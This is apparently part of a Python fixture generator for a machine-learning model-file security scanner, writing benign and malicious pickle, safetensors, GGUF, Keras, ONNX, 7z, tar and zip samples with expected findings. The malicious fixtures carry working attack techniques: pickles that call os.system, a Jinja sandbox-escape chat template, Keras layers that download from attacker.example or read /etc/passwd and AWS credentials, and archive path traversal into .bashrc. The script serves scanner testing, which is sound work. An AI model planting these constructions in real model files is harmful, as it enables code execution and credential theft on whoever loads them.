long_memo = b"\x80\x04" + b"".join(b"N\x94" for _ in range(300_000)) + b"N."
put("bombs/memo-entries.pkl", long_memo, "300,000 memo entries: must finish, bounded")

# ---------------------------------------------------------------- benign
for proto in range(0, 6):
    put(f"benign/plain-data-p{proto}.pkl",
        pickle.dumps({"lr": 0.1, "layers": [64, 32], "name": "mlp", "ok": True, "t": (1, 2), "s": {1, 2},
                      "b": b"\x00\x01"}, protocol=proto),
        f"plain data, protocol {proto}", max_severity="info")
put("benign/ordered-dict.pkl", pickle.dumps(collections.OrderedDict(a=1), protocol=2),
    "collections.OrderedDict", max_severity="info")
import datetime  # noqa: E402
import decimal  # noqa: E402
import fractions  # noqa: E402
import pathlib  # noqa: E402
import uuid  # noqa: E402

# Values training scripts put in checkpoints (a run's start time, its output
# folder, a range of epochs): at protocol 2, `range` is written as Python 2's
# `__builtin__.xrange`, which Python 3 maps back.
stdlib_values = {"started": datetime.datetime(2024, 1, 1, 12, 0), "out": pathlib.PurePosixPath("/runs/1"),
                 "epochs": range(3), "lr": decimal.Decimal("0.1"), "frac": fractions.Fraction(1, 3),
                 "id": uuid.UUID(int=1), "window": slice(0, 10), "z": complex(1, 2)}
for proto in (2, 4):
    put(f"benign/stdlib-values-p{proto}.pkl", pickle.dumps(stdlib_values, protocol=proto),
        f"datetime, path, range, Decimal, Fraction, UUID, slice values, protocol {proto}", max_severity="info")

stub("numpy.core.multiarray", _reconstruct=lambda *a: None)
stub("numpy", ndarray=type("ndarray", (), {}), dtype=type("dtype", (), {}))


class ArrayStub:
    def __reduce__(self):
        nd = sys.modules["numpy"]
        return (sys.modules["numpy.core.multiarray"]._reconstruct, (nd.ndarray, (0,), b"b"))


put("benign/numpy-array-p2.pkl", pickle.dumps([ArrayStub()], protocol=2),
    "a pickled NumPy array (numpy.core.multiarray._reconstruct)", max_severity="info")

est = type("LogisticRegression", (), {})
stub("sklearn.linear_model._logistic", LogisticRegression=est)
obj = est()
obj.C = 1.0
put("benign/sklearn-estimator.pkl", pickle.dumps(obj, protocol=4),
    "scikit-learn estimator: reported low, never medium", "low", ["sklearn.linear_model._logistic.LogisticRegression"],
    max_severity="low")

# Python 3.12 pickles an enum member as getattr(EnumClass, 'NAME') (here a
# transformers training-arguments enum), and a class method as
# getattr(cls, 'name'): ZoneInfo values are getattr(ZoneInfo, '_unpickle')(key, 1).
put("benign/enum-member-getattr.pkl",
    b"\x80\x04\x8c\x08builtins\x8c\x07getattr\x93\x8c\x1atransformers.trainer_utils"
    b"\x8c\x10IntervalStrategy\x93\x8c\x05STEPS\x86R.",
    "an enum member written by Python 3.12 (getattr on its class)", max_severity="low")
import zoneinfo  # noqa: E402
put("benign/zoneinfo-datetime.pkl",
    pickle.dumps(datetime.datetime(2024, 1, 1, tzinfo=zoneinfo.ZoneInfo("UTC")), protocol=4),
    "a datetime in a ZoneInfo time zone (getattr(ZoneInfo, '_unpickle'))", max_severity="info")

import array  # noqa: E402
for proto in (2, 4):
    put(f"benign/stdlib-array-p{proto}.pkl", pickle.dumps(array.array("d", [1.0, 2.0]), protocol=proto),
        f"a standard-library array.array, protocol {proto}", max_severity="info")

# pandas 3 stores strings in Arrow arrays: a DataFrame's string column is
# pickled through Arrow's own reducers (the same globals as pyarrow 23).
stub("pyarrow.lib", _restore_array=lambda *a: None, type_for_alias=lambda *a: None,
     py_buffer=lambda *a: None, chunked_array=lambda *a: None, foreign_buffer=lambda *a: None)


def _arrow(name, *args):
    return type("Reduced", (), {"__reduce__": lambda self: (getattr(sys.modules["pyarrow.lib"], name), args)})()


arrow_type = _arrow("type_for_alias", "large_string")
arrow_array = _arrow("_restore_array", (arrow_type, 2, 0, 0,
                                        [None, _arrow("py_buffer", b"\0\0\0\0\1\0\0\0\2\0\0\0"),
                                         _arrow("py_buffer", b"ab")], [], None))
put("benign/arrow-string-column.pkl",
    pickle.dumps({"name": _arrow("chunked_array", [arrow_array], arrow_type)}, protocol=5),
    "an Arrow-backed string column as pandas 3 pickles it (pyarrow.lib reducers)", max_severity="info")
put("malicious/arrow-foreign-buffer.pkl", pickle.dumps(_arrow("foreign_buffer", 0x7f0000000000, 4096), protocol=4),
    "pyarrow.lib.foreign_buffer wraps any process address: a memory read", "critical",
    ["pyarrow.lib.foreign_buffer"])

# A Hugging Face `training_args.bin` holds Accelerate's state and enums; a
# Lightning checkpoint's hyper-parameters are OmegaConf containers typed
# with `typing.Any`; a PEFT adapter pickles its config.
import typing  # noqa: E402


def _enum_member(module, cls, value):
    member = type(cls, (), {"__reduce__": lambda self: (getattr(sys.modules[module], cls), (value,))})
    stub(module, **{cls: member})
    return member()


stub("accelerate.state", PartialState=type("PartialState", (), {}))
stub("transformers.training_args", TrainingArguments=type("TrainingArguments", (), {}))
state = sys.modules["accelerate.state"].PartialState()
state.__dict__.update({"_cpu": True, "backend": None,
                       "distributed_type": _enum_member("accelerate.utils.dataclasses", "DistributedType", "NO")})
training_args = sys.modules["transformers.training_args"].TrainingArguments()
training_args.__dict__.update({"output_dir": "out", "learning_rate": 5e-5, "distributed_state": state,
                               "lr_scheduler_type": _enum_member("transformers.trainer_utils", "SchedulerType",
                                                                 "linear")})
put("benign/training-args.pkl", pickle.dumps(training_args, protocol=2),
    "a transformers training_args.bin (TrainingArguments, Accelerate's PartialState and enums)",
    max_severity="low")
stub("omegaconf.dictconfig", DictConfig=type("DictConfig", (), {}))
stub("omegaconf.base", ContainerMetadata=type("ContainerMetadata", (), {}))
meta = sys.modules["omegaconf.base"].ContainerMetadata()
meta.__dict__.update({"ref_type": typing.Any, "object_type": dict, "key_type": typing.Any,
                      "element_type": typing.Any})
config = sys.modules["omegaconf.dictconfig"].DictConfig()
config.__dict__.update({"_metadata": meta, "_content": {"lr": 0.1, "layers": [1, 2]}})
put("benign/lightning-hparams.pkl", pickle.dumps({"hyper_parameters": {"cfg": config}, "epoch": 1}, protocol=2),
    "Lightning checkpoint hyper-parameters: an OmegaConf DictConfig typed with typing.Any",
    max_severity="low")

# statsmodels results: Cython state-space classes typed by BLAS prefix
# (dStatespace, zKalmanFilter) and a types.SimpleNamespace; gensim keeps
# `hash` as Word2Vec's hash function.
_filter = _enum_member("statsmodels.tsa.statespace._kalman_filter", "dKalmanFilter", 1)
stub("statsmodels.tsa.arima.model", ARIMAResults=type("ARIMAResults", (), {}))
results = sys.modules["statsmodels.tsa.arima.model"].ARIMAResults()
results.__dict__.update({"filter": _filter, "fixed": types.SimpleNamespace(params=[1.0])})
put("benign/statsmodels-results.pkl", pickle.dumps(results, protocol=4),
    "statsmodels ARIMA results (BLAS-prefixed Cython classes, types.SimpleNamespace)", max_severity="low")
stub("gensim.models.word2vec", Word2Vec=type("Word2Vec", (), {}))
w2v = sys.modules["gensim.models.word2vec"].Word2Vec()
w2v.__dict__.update({"vector_size": 8, "hashfxn": hash})
put("benign/gensim-word2vec.pkl", pickle.dumps(w2v, protocol=4),
    "a gensim Word2Vec model (its hash function is builtins.hash)", max_severity="low")

put("benign/readme.txt", b"cat\ndog\nthis is text, not a pickle\n", "text that starts like GLOBAL",
    max_severity="info")


# safetensors ----------------------------------------------------------------
def safetensors(header, body):
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + body


st_ok = safetensors({"__metadata__": {"format": "pt"},
                     "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                     "b": {"dtype": "I64", "shape": [1], "data_offsets": [16, 24]}}, bytes(24))
put("benign/model.safetensors", st_ok, "valid safetensors", max_severity="info")
put("malicious/safetensors-size-mismatch.safetensors",
    safetensors({"a": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 80]}}, bytes(80)),
    "dtype x shape disagrees with data_offsets", "medium", rules=["MLS-SCAN-008"])
put("malicious/safetensors-overlap.safetensors",
    safetensors({"a": {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]},
                 "b": {"dtype": "U8", "shape": [8], "data_offsets": [4, 12]}}, bytes(12)),
    "overlapping tensors", "medium", rules=["MLS-SCAN-008"])
put("malicious/safetensors-hidden-tail.safetensors",
    safetensors({"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}, bytes(4) + pickle.dumps(system_call())),
    "bytes after the last tensor (a smuggled payload)", "medium", rules=["MLS-SCAN-008"])
put("malicious/safetensors-bad-json.safetensors", struct.pack("<Q", 16) + b'{"a": {"dtype":' + b" " + bytes(8),
    "header is not JSON", "medium", rules=["MLS-SCAN-008"])


# GGUF -------------------------------------------------------------------------
def gguf_str(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf(kvs, tensors=0, version=3, extra=b""):
    out = b"GGUF" + struct.pack("<IQQ", version, tensors, len(kvs))
    for k, v in kvs:
        out += gguf_str(k) + struct.pack("<I", 8) + gguf_str(v)
    return out + extra


put("benign/model.gguf", gguf([("general.architecture", "llama"),
                               ("tokenizer.chat_template",
                                "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}")]),
    "benign GGUF with an ordinary chat template", max_severity="info")
put("malicious/gguf-template-ssti.gguf",
    gguf([("general.architecture", "llama"),
          ("tokenizer.chat_template",
           "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}")]),
    "CVE-2024-34359: chat template escapes the Jinja sandbox", "critical", rules=["MLS-SCAN-009"])
put("malicious/gguf-template-obfuscated.gguf",
    gguf([("general.architecture", "llama"),
          ("tokenizer.chat_template",
           "{% set u = '%c'|format(95) %}{{ ()|attr(u*2 ~ 'class' ~ u*2)|attr(u*2 ~ 'base' ~ u*2) }}")]),
    "sandbox escape that spells no dunder name: underscores from %c, attributes by |attr()", "critical",
    rules=["MLS-SCAN-009"])
put("malicious/gguf-huge-counts.gguf", b"GGUF" + struct.pack("<IQQ", 3, 2**60, 2**60),
    "tensor and key counts beyond the file", "medium", rules=["MLS-SCAN-008"])
put("malicious/gguf-string-overrun.gguf",
    b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 2**40) + b"general.name",
    "string length past the end of the file", "medium", rules=["MLS-SCAN-008"])


# Keras ------------------------------------------------------------------------
def keras_zip(config):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
    return buf.getvalue()


dense = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 4, "activation": "relu"},
         "registered_name": None}
seq = lambda layers: {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": layers},
                      "registered_name": None}
put("benign/model.keras", keras_zip(seq([dense, dense])), "Keras model with Dense layers", max_severity="info")
lam = {"module": "keras.layers", "class_name": "Lambda",
       "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA"}}}}
put("malicious/lambda-nested.keras", keras_zip(seq([dense, seq([dense, lam])])),
    "Lambda layer nested two levels deep", "critical", rules=["MLS-SCAN-010"])
put("malicious/cve-2025-1550.keras",
    keras_zip(seq([dense, {"module": "os", "class_name": "system", "config": {"command": "id"},
                           "registered_name": "system"}])),
    "CVE-2025-1550: module outside Keras", "critical", ["os.system"], ["MLS-SCAN-010"])
put("malicious/cve-2025-9906.keras",
    keras_zip(seq([{"module": "keras.config", "class_name": "function",
                    "config": "enable_unsafe_deserialization", "registered_name": "function"}, lam])),
    "CVE-2025-9906: enable_unsafe_deserialization inside the config", "critical", rules=["MLS-SCAN-010"])


# Layers that read a file named by the model while it loads: a lookup layer's
# vocabulary (CVE-2025-12058), an external SavedModel, a tokenizer's files.
lookup = lambda vocabulary: {"module": "keras.layers", "class_name": "StringLookup",
                             "config": {"name": "lookup", "vocabulary": vocabulary, "num_oov_indices": 1},
                             "registered_name": None}
put("malicious/cve-2025-12058-stringlookup-path.keras", keras_zip(seq([lookup("/etc/passwd"), dense])),
    "CVE-2025-12058: a StringLookup whose vocabulary is a local path, read on load", "high",
    rules=["MLS-SCAN-010"])
put("malicious/keras-tfsmlayer-external.keras",
    keras_zip(seq([{"module": "keras.layers", "class_name": "TFSMLayer",
                    "config": {"name": "tfsm", "filepath": "/tmp/attacker_saved_model",
                               "call_endpoint": "serve"}, "registered_name": None}])),
    "TFSMLayer loading a SavedModel from outside the archive", "high", rules=["MLS-SCAN-010"])
put("malicious/keras-hub-tokenizer-vocabulary-path.keras",
    keras_zip(seq([{"module": "keras_hub.src.tokenizers.word_piece_tokenizer", "class_name": "WordPieceTokenizer",
                    "config": {"name": "tok", "vocabulary": "/home/user/.aws/credentials"},
                    "registered_name": "keras_hub>WordPieceTokenizer"}])),
    "a keras-hub tokenizer whose vocabulary is a local path, read on load", "high", rules=["MLS-SCAN-010"])
put("benign/keras-stringlookup-list.keras", keras_zip(seq([lookup(["cat", "dog", "/not/a/path"]), dense])),
    "a StringLookup with its vocabulary inline, as Keras saves it", max_severity="info")


def gadget_lambda(module, name, arguments):
    """A Lambda whose function is a Keras function, not bytecode: safe_mode lets it through."""
    return {"module": "keras.layers", "class_name": "Lambda",
            "config": {"name": "gadget", "arguments": arguments,
                       "function": {"module": module, "class_name": "function", "config": name,
                                    "registered_name": "function"}}}


put("malicious/cve-2025-8747-get-file.keras",
    keras_zip(seq([dense, gadget_lambda("keras.utils", "get_file",
                                        {"origin": "https://attacker.example/m.tar.gz", "extract": True})])),
    "CVE-2025-8747: keras.utils.get_file as a Lambda's function (downloads and extracts on load)", "critical",
    rules=["MLS-SCAN-010"])
put("malicious/cve-2025-9906-load-model.keras",
    keras_zip(seq([dense, gadget_lambda("keras.models", "load_model", {"safe_mode": False})])),
    "CVE-2025-9906: keras.models.load_model with safe_mode=False as a Lambda's function", "critical",
    rules=["MLS-SCAN-010"])
act = {"module": "keras.layers", "class_name": "Dense",
       "config": {"units": 4, "activation": {"module": "keras.activations", "class_name": "function",
                                             "config": "relu", "registered_name": "function"}},
       "registered_name": None}
put("benign/function-activation.keras", keras_zip(seq([act])),
    "Keras model whose activation is a serialized keras.activations function", max_severity="info")
h5 = b"\x89HDF\r\n\x1a\n" + bytes(200) + json.dumps({"class_name": "Functional", "config": {"layers": [lam]}}).encode() + bytes(100)
put("malicious/lambda.h5", h5, "Lambda layer in an HDF5 model_config", "critical", rules=["MLS-SCAN-010"])
put("benign/dense.h5", b"\x89HDF\r\n\x1a\n" + bytes(200) + json.dumps(seq([dense])).encode() + bytes(100),
    "HDF5 Keras model with Dense layers", max_severity="info")

# TorchModuleWrapper keeps torch.save(module) in base64 in its config; Keras
# torch.load()s it (keras-team/keras#21575 gated that on safe_mode in 2025).
import base64  # noqa: E402
wrapper = {"module": "keras.layers", "class_name": "TorchModuleWrapper",
           "config": {"name": "torch_module_wrapper", "module": base64.b64encode(evil_torch).decode()},
           "registered_name": None}
put("malicious/torch-module-wrapper.keras", keras_zip(seq([dense, wrapper])),
    "TorchModuleWrapper whose pickled module carries a payload", "critical", ["posix.system"],
    ["MLS-SCAN-010"])
wrapper_bytes = {"module": "keras.layers", "class_name": "TorchModuleWrapper",
                 "config": {"name": "w", "module": {"class_name": "__bytes__",
                                                    "config": {"value": base64.b64encode(evil_torch).decode()}}},
                 "registered_name": None}
put("malicious/torch-module-wrapper.h5",
    b"\x89HDF\r\n\x1a\n" + bytes(200) + json.dumps(seq([wrapper_bytes])).encode() + bytes(100),
    "TorchModuleWrapper (module as Keras-serialised bytes) in an HDF5 model_config", "critical",
    ["posix.system"], ["MLS-SCAN-010"])

# ONNX (written by the onnx package) -------------------------------------------
if onnx is not None:
    def onnx_model(initializers, nodes, opsets=(("", 17),)):
        graph = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                                  [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], initializers)
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets])
        return model.SerializeToString()

    w = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    put("benign/model.onnx", onnx_model([w], [helper.make_node("Add", ["x", "w"], ["y"])]),
        "standard ONNX graph", max_severity="info")
    ext = TensorProto()
    ext.name = "w"
    ext.data_type = TensorProto.FLOAT
    ext.dims.append(2)
    ext.data_location = TensorProto.EXTERNAL
    for k, v in (("location", "../../../../etc/passwd"), ("offset", "0"), ("length", "8")):
        e = ext.external_data.add()
        e.key, e.value = k, v
    put("malicious/onnx-external-traversal.onnx", onnx_model([ext], [helper.make_node("Add", ["x", "w"], ["y"])]),
        "CVE-2024-27318: external data path escapes the model folder", "high", rules=["MLS-SCAN-011"])
    # The same escape from a sparse initializer's values, and a custom
    # operator hidden in a model-local function rather than the graph.
    sparse = helper.make_sparse_tensor(ext, helper.make_tensor("i", TensorProto.INT64, [1], [0]), [2])
    graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], sparse_initializer=[sparse])
    put("malicious/onnx-sparse-external-traversal.onnx", helper.make_model(graph).SerializeToString(),
        "CVE-2024-27318 through a sparse initializer's external values", "high", rules=["MLS-SCAN-011"])
    fn = helper.make_function("local.fns", "Wrapped", ["a"], ["b"], [helper.make_node("Evil", ["a"], ["b"], domain="com.evil.ops")],
                              [helper.make_opsetid("com.evil.ops", 1)])
    graph = helper.make_graph([helper.make_node("Wrapped", ["x"], ["y"], domain="local.fns")], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])])
    put("malicious/onnx-function-custom-op.onnx",
        helper.make_model(graph, functions=[fn], opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local.fns", 1)]).SerializeToString(),
        "custom operator domain inside a model-local function", "medium", rules=["MLS-SCAN-011"])
    # What PyTorch's exporter writes: model-local functions under their own
    # domain, built from standard operators. No native library is needed.
    fn = helper.make_function("pkg.onnxscript.torch_lib", "aten_relu", ["a"], ["b"],
                              [helper.make_node("Relu", ["a"], ["b"])], [helper.make_opsetid("", 17)])
    graph = helper.make_graph([helper.make_node("aten_relu", ["x"], ["y"], domain="pkg.onnxscript.torch_lib")], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])])
    put("benign/onnx-local-functions.onnx",
        helper.make_model(graph, functions=[fn], opset_imports=[helper.make_opsetid("", 17),
                                                                helper.make_opsetid("pkg.onnxscript.torch_lib", 1)]).SerializeToString(),
        "model-local functions of standard operators, as torch.onnx writes them", max_severity="info")
    put("malicious/onnx-custom-domain.onnx",
        onnx_model([w], [helper.make_node("Evil", ["x", "w"], ["y"], domain="com.evil.ops")],
                   opsets=(("", 17), ("com.evil.ops", 1))),
        "custom operator domain", "medium", rules=["MLS-SCAN-011"])
    bad = helper.make_tensor("w", TensorProto.FLOAT, [4], [1.0, 2.0, 3.0, 4.0])
    bad.raw_data = struct.pack("<2f", 1, 2)
    del bad.float_data[:]
    put("malicious/onnx-size-mismatch.onnx", onnx_model([bad], [helper.make_node("Add", ["x", "w"], ["y"])]),
        "declared dims disagree with raw data", "medium", rules=["MLS-SCAN-008"])
else:
    print("onnx not installed: ONNX fixtures not written", file=sys.stderr)

# Compressed and tar containers ------------------------------------------------
import gzip as _gzip  # noqa: E402
import tarfile  # noqa: E402

payload = pickle.dumps(system_call(), protocol=4)
put("malicious/payload.pkl.gz", _gzip.compress(payload, mtime=0), "gzip-compressed pickle", "critical", ["posix.system"])
put("malicious/joblib-zlib.pkl", zlib.compress(payload), "zlib-compressed pickle (joblib compress=True)",
    "critical", ["posix.system"])
import bz2 as _bz2  # noqa: E402
import lzma as _lzma  # noqa: E402

# Every codec joblib's `compress=` writes: zlib and gzip above, then bz2,
# lzma (the legacy .lzma "alone" format) and xz.
put("malicious/payload.pkl.bz2", _bz2.compress(payload), "bzip2-compressed pickle (joblib compress='bz2')",
    "critical", ["posix.system"])
put("malicious/joblib-lzma.pkl", _lzma.compress(payload, format=_lzma.FORMAT_ALONE),
    "legacy .lzma pickle (joblib compress='lzma')", "critical", ["posix.system"])
put("malicious/payload.pkl.xz", _lzma.compress(payload), "xz-compressed pickle (joblib compress='xz')",
    "critical", ["posix.system"])
put("benign/state.pkl.xz", _lzma.compress(pickle.dumps({"epoch": 3, "lr": [0.1, 0.01]}, protocol=4)),
    "xz-compressed plain-data pickle", max_severity="info")
put("malicious/payload.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(32),
    "7z archive whose index cannot be read: reported as not analysed, not passed", "medium",
    rules=["MLS-SCAN-005"])
try:
    import py7zr
except ImportError:
    py7zr = None
if py7zr is not None:
    # nullifAI (ReversingLabs, Feb 2025): PyTorch checkpoints packed with 7z
    # rather than zip, whose data.pkl runs its payload and then breaks.
    # Written by py7zr with each coder 7-Zip offers, so every decoder path
    # is exercised.
    def seven_zip(members, filters=None, password=None):
        out = io.BytesIO()
        with py7zr.SevenZipFile(out, "w", filters=filters, password=password,
                                header_encryption=password is not None) as z:
            for name, blob in members:
                z.writestr(blob, name)
        return out.getvalue()

    nullifai_pkl = pickle.dumps(system_call(), protocol=2)[:-1] + b"\xff\xfe garbage"
    checkpoint = [("archive/data.pkl", nullifai_pkl), ("archive/byteorder", b"little"),
                  ("archive/data/0", bytes(4096)), ("archive/version", b"3\n")]
    put("malicious/nullifai-torch.7z", seven_zip(checkpoint),
        "nullifAI: PyTorch checkpoint packed with 7z (LZMA2), broken pickle after its payload",
        "critical", ["posix.system"], ["MLS-SCAN-004"])
    coders = {
        "lzma-bcj": [{"id": py7zr.FILTER_X86}, {"id": py7zr.FILTER_LZMA}],
        "bzip2": [{"id": py7zr.FILTER_BZIP2}],
        "deflate": [{"id": py7zr.FILTER_DEFLATE}],
        "ppmd": [{"id": py7zr.FILTER_PPMD, "order": 6, "mem": 24}],
        "copy": [{"id": py7zr.FILTER_COPY}],
        "delta-lzma2": [{"id": py7zr.FILTER_DELTA}, {"id": py7zr.FILTER_LZMA2}],
    }
    for label, filters in coders.items():
        # The payload after a harmless member: a solid block is decoded
        # from its start to reach it.
        put(f"malicious/payload-{label}.7z",
            seven_zip([("readme.txt", b"weights for a small model\n" * 50),
                       ("model.bin", payload)], filters),
            f"pickle inside a 7z archive ({label} coder), second member of a solid block",
            "critical", ["posix.system"])
    inner = seven_zip([("weights.pkl", payload)])
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        z.writestr("bundle/model.7z", inner)
    put("malicious/7z-in-zip.zip", zbuf.getvalue(), "7z archive inside a zip, holding a pickle",
        "critical", ["posix.system"])
    put("malicious/encrypted-header.7z",
        seven_zip([("model.pkl", payload)], password="infected"),
        "7z with an encrypted header: what it holds cannot be analysed, so it is reported",
        "medium", rules=["MLS-SCAN-005"])
    put("benign/state.7z",
        seven_zip([("state.pkl", pickle.dumps({"epoch": 3, "lr": [0.1, 0.01]}, protocol=4)),
                   ("notes/README.md", b"# model card\n"), ("empty/", b"")]),
        "7z of a plain-data pickle and a text file", max_severity="info")
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
    for name, blob in (("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
                       ("pickle", payload), ("storages", pickle.dumps([], protocol=2))):
        info = tarfile.TarInfo(name)
        info.size, info.mtime = len(blob), 0
        t.addfile(info, io.BytesIO(blob))
# Archives that write outside the folder they are unpacked into
# (tarfile.extractall without a filter: CVE-2007-4559; Keras get_file:
# CVE-2025-12060): a `..` name, an absolute link, and the same hidden in a
# PAX path record and a GNU long name.
def tar_bytes(entries, fmt=tarfile.USTAR_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as t:
        for name, blob, link in entries:
            info = tarfile.TarInfo(name)
            info.mtime = 0
            if link is not None:
                info.type, info.linkname = tarfile.SYMTYPE, link
                t.addfile(info)
            else:
                info.size = len(blob)
                t.addfile(info, io.BytesIO(blob))
    return out.getvalue()


state_blob = pickle.dumps({"epoch": 1}, protocol=2)
put("malicious/tar-path-traversal.tar", tar_bytes([("model/config.json", b"{}", None), ("../../.bashrc", b"id\n", None)]),
    "model tarball with a member named ../../.bashrc", "high", rules=["MLS-SCAN-012"])
put("malicious/tar-symlink-escape.tar", tar_bytes([("model/weights", None, "/etc/passwd")]),
    "model tarball with a symbolic link to /etc/passwd", "high", rules=["MLS-SCAN-012"])
hard = io.BytesIO()
with tarfile.open(fileobj=hard, mode="w", format=tarfile.USTAR_FORMAT) as t:
    info = tarfile.TarInfo("model/deep/weights")
    info.type, info.linkname, info.mtime = tarfile.LNKTYPE, "../../etc/passwd", 0
    t.addfile(info)
put("malicious/tar-hardlink-escape.tar", hard.getvalue(),
    "hard link whose target (named from the archive's root) climbs out", "high", rules=["MLS-SCAN-012"])
put("malicious/tar-pax-traversal.tar",
    tar_bytes([("model/" + "d" * 120 + "/../../../../.profile", b"id\n", None)], fmt=tarfile.PAX_FORMAT),
    "traversal in a PAX path record (the header's own name field is truncated)", "high", rules=["MLS-SCAN-012"])
put("malicious/tar-gnu-longname-traversal.tar",
    tar_bytes([("model/" + "e" * 120 + "/../../../../.profile", b"id\n", None)], fmt=tarfile.GNU_FORMAT),
    "traversal in a GNU long-name entry", "high", rules=["MLS-SCAN-012"])
put("benign/tar-internal-link.tar",
    tar_bytes([("model/v1/state.pkl", state_blob, None), ("model/latest", None, "v1/state.pkl")]),
    "model tarball with a link that stays inside it", max_severity="info")
zs = io.BytesIO()
with zipfile.ZipFile(zs, "w") as z:
    z.writestr(zipfile.ZipInfo("model/data.pkl", date_time=(1980, 1, 1, 0, 0, 0)), state_blob)
    z.writestr(zipfile.ZipInfo("../../../tmp/evil.sh", date_time=(1980, 1, 1, 0, 0, 0)), b"id\n")
put("malicious/zip-slip.zip", zs.getvalue(), "zip member named ../../../tmp/evil.sh", "medium",
    rules=["MLS-SCAN-012"])
put("malicious/tar-checkpoint.tar", buf.getvalue(), "old PyTorch TAR layout with a payload in `pickle`",
    "critical", ["posix.system"])

for rel, data in JOBLIB_FILES.items():
    if rel.startswith("benign"):
        put(rel, data, "joblib file with float, int and object arrays", max_severity="info")
    else:
        put(rel, data, "joblib stream: payload after raw array bytes", "critical", ["posix.system"])

with open(os.path.join(OUT, "expected.json"), "w") as f:
    json.dump(expected, f, indent=1, sort_keys=True)
print(f"{len(expected)} fixtures written to {OUT}")
